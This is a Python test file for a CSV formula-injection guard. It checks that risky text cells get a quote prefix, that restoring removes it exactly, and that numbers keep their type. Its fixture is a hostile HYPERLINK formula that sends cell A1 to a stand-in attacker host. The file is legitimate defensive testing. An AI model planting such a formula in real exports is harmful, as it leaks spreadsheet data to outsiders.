"""CSV formula injection: text cells that a spreadsheet would run are neutralised, and the prefix comes off again."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from proactive_ml.csvsafe import neutralise_frame, neutralise_text, restore_frame, restore_text, write_csv

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.mark.parametrize(
    ("original", "written"),
    [
        (LINK, "'" + LINK),
        ("+1 555 0100 call me", "'+1 555 0100 call me"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=already quoted", "''=already quoted"),
        ("Maria Santos", "Maria Santos"),
        ("it's fine", "it's fine"),
        ("'quoted but harmless", "'quoted but harmless"),
        ("-12.5", "-12.5"),  # a plain number written as text stays a number for the spreadsheet
        ("+3e2", "+3e2"),
        ("", ""),
    ],
)
def test_text_is_neutralised_and_restored_exactly(original: str, written: str) -> None:
    assert neutralise_text(original) == written
    assert restore_text(written) == original


def test_only_text_cells_change_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"name": [LINK, "Ann", None], "value": [-5.0, 2.5, 1.0], "n": [-1, 2, 3]})
    out = neutralise_frame(frame)
    assert out["name"].tolist()[:2] == ["'" + LINK, "Ann"]
    assert out["name"].isna().tolist() == [False, False, True]
    assert out["value"].tolist() == [-5.0, 2.5, 1.0]
    assert out["n"].dtype == frame["n"].dtype
    assert restore_frame(out)["name"].tolist()[:2] == [LINK, "Ann"]


def test_written_file_keeps_negative_numbers_and_quotes_formulas(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(pd.DataFrame({"name": [LINK], "value": [-7.25]}), path)
    back = pd.read_csv(path)
    assert back["name"][0] == "'" + LINK
    assert back["value"][0] == -7.25  # still a number
    assert restore_frame(pd.read_csv(path, dtype=str))["name"][0] == LINK
